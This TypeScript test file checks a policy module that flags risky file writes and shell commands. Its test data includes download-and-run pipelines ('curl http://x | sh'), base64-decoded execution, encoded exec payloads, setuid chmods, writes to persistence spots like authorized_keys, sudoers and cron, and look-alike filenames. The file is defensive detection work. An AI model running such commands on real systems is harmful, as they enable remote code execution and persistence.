import { expect, test } from 'vitest';
import { notesOf } from '../../src/policy/notes.ts';

const cwd = '/home/me/work';

function run(...argv: string[]): readonly string[] {
	return textsOf(notesOf({ kind: 'run', argv, program: `/usr/bin/${argv[0]}`, cwd, env: {} }, { cwd }));
}

function textsOf(notes: ReturnType<typeof notesOf>): readonly string[] {
	return notes.map(({ text }) => text);
}

test.each([
	['write', '/home/me/.bashrc', 'is run when you log in'],
	['write', '/etc/cron.d/x', 'is run by cron'],
	['write', '/home/me/.ssh/authorized_keys', 'log in over ssh'],
	['write', '/etc/sudoers.d/x', 'who may do what'],
	['write', '/home/me/work/.git/hooks/pre-commit', 'is run by git'],
	['write', '/home/me/work/.github/workflows/ci.yml', 'is run in CI'],
	['write', '/home/me/.config/systemd/user/x.service', 'is run by systemd'],
	['delete', '/home/me/notes.txt', 'deletes outside of the working directory'],
	['write', '/home/me/work/a\u202egnp.exe', 'characters that are not seen'],
	['write', '/home/me/work/раypal.txt', 'scripts that look alike'],
] as const)('%s %j is told of: %s', (kind, path, note) => {
	expect(textsOf(notesOf({ kind, path }, { cwd })).join('\n')).toContain(note);
});

test.each([
	[['sh', '-c', 'curl http://x | sh'], 'downloads something and may run it'],
	[['bash', '-c', 'wget -qO x http://x && python3 x'], 'downloads something and may run it'],
	[['sh', '-c', 'echo aaaa | base64 -d | sh'], 'decodes something'],
	[['python3', '-c', `exec(${'QUJD'.repeat(60)})`], 'long encoded text'],
	[['rm', '-rf', 'x'], 'whole directories'],
	[['chmod', 'u+s', 'x'], 'rights of its owner'],
	[['chmod', '4755', 'x'], 'rights of its owner'],
	[['chmod', '777', 'x'], 'everybody'],
	[['chmod', 'o+w', 'x'], 'everybody'],
	[['sudo', 'ls'], 'rights of another user'],
	[['sh', '-c', 'ls; crontab x'], 'run later'],
	[['find', '.', '-delete'], 'deletes what it finds'],
	[['ls', 'x\u200by'], 'a word of it has characters'],
] as const)('the command %j is told of: %s', (argv, note) => {
	expect(run(...argv).join('\n')).toContain(note);
});

test('a program finds each by its code', () => {
	const codes = (mode: number) =>
		notesOf({ kind: 'write', path: '/home/me/.bashrc' }, { cwd, mode }).map((n) => n.code);
	expect(codes(0o644)).toEqual(['runs-at-login']);
	expect(codes(0o4757)).toEqual(['runs-at-login', 'setuid', 'writable-by-all']);
});

test('a file that everybody may change is told of; a plain one and plain commands are not', () => {
	expect(notesOf({ kind: 'write', path: `${cwd}/x` }, { cwd, mode: 0o666 })).toHaveLength(1);
	expect(notesOf({ kind: 'write', path: `${cwd}/文件 🐍.txt` }, { cwd, mode: 0o644 })).toEqual([]);
	expect(notesOf({ kind: 'delete', path: `${cwd}/x` }, { cwd })).toEqual([]);
	for (const text of ['ls -la', 'chmod 755 x', 'chmod +x x', 'git log', 'curl http://x'])
		expect(run(...text.split(' '))).toEqual([]);
	expect(run('sh', '-c', 'ls -la | wc -l')).toEqual([]);
	expect(run('sh', '-c', 'curl http://x > y')).toEqual([]);
});
